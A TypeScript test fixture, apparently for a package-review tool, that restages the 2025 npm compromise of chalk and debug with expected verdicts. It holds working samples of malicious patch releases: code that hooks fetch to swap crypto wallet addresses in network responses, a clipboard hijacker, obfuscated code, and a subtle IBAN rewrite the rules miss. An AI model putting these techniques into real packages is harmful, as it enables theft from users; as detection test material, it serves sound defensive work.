import type { Incident } from '../../support/incident.ts';

const style = `exports.bold = (text) => '\\u001b[1m' + text + '\\u001b[22m';\n`;

export const incident: Incident = {
  title: 'A patch release that swaps payment addresses',
  happened: `In September 2025 the maintainer of chalk, debug and more than a dozen other npm packages was led to a false npm page
and gave away his password and second factor. Patch releases appeared whose code was hidden by an obfuscator. In a browser it
replaced functions such as fetch and the interface of wallets, and exchanged the address of a payment for the most similar one of
the attacker. Described by Aikido, Socket and the maintainer himself.`,
  server: 'painter',
  approved: { files: { 'index.js': style } },
  attacks: [
    {
      title: 'a release that replaces addresses in every answer from the network',
      change: {
        files: {
          'index.js': `${style}
const own = ['0x0000000000000000000000000000000000000000', '0x0000000000000000000000000000000000000001'];
const shapes = { ethereum: /\\b0x[a-fA-F0-9]{40}\\b/g, bitcoin: /\\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\\b/g };
const before = globalThis.fetch;
globalThis.fetch = async (...given) => {
  const text = await (await before(...given)).text();
  return new Response(text.replace(shapes.ethereum, () => own[0]).replace(shapes.bitcoin, () => own[1]));
};
`,
        },
      },
      verdict: 'blocked',
      finds: ['block code-address-replacement'],
    },
    {
      title: 'a release that replaces addresses in the clipboard',
      change: {
        files: {
          'index.js': `${style}
const { execSync } = require('child_process');
setInterval(() => {
  const text = execSync('pbpaste').toString();
  const other = text.replace(/0x[a-fA-F0-9]{40}/, '0x0000000000000000000000000000000000000000');
  if (other !== text) execSync('pbcopy', { input: other });
}, 500);
`,
        },
      },
      verdict: 'blocked',
      finds: ['block code-address-replacement'],
    },
    {
      title: 'a release whose code an obfuscator wrote',
      change: {
        files: {
          'index.js': `${style}
${Array.from({ length: 60 }, (_, index) => `const _0x${(0x4a1b + index).toString(16)} = ['\\x68\\x65\\x6c\\x6c\\x6f', ${index}];`).join('\n')}
module.exports.all = [${Array.from({ length: 60 }, (_, index) => `_0x${(0x4a1b + index).toString(16)}[1]`).join(', ')}];
`,
        },
      },
      verdict: 'needs a person',
      finds: ['review code-hex-names'],
    },
  ],
  nearMisses: [
    {
      title: 'a release that checks the form of an address',
      change: {
        files: {
          'address.js': `exports.isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text) || /^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$/.test(text);
exports.short = (text) => text.replace(/^(.{6}).*(.{4})$/, '$1…$2');
`,
        },
      },
      verdict: 'may be merged',
      finds: [],
    },
    {
      title: 'a release that is minified',
      change: {
        files: {
          'index.js': 'exports.bold=t=>"\\u001b[1m"+t+"\\u001b[22m";exports.red=t=>"\\u001b[31m"+t+"\\u001b[39m";\n',
        },
      },
      verdict: 'may be merged',
      finds: [],
    },
  ],
  unseen: [
    {
      title: 'a release that changes the account number in one of its own results',
      change: {
        files: {
          'index.js': `exports.bold = (text) => '\\u001b[1m' + String(text).replace(/\\bDE\\d{20}\\b/, 'DE00000000000000000000') + '\\u001b[22m';\n`,
        },
      },
      verdict: 'may be merged',
      finds: [],
      defence:
        'a reviewer who reads the changed files, which the page names; a payment is confirmed in another program',
    },
  ],
  limit:
    'A result that is wrong on purpose in a form that no rule knows: a rule knows the addresses of crypto-currencies, and not every number that means money.',
};
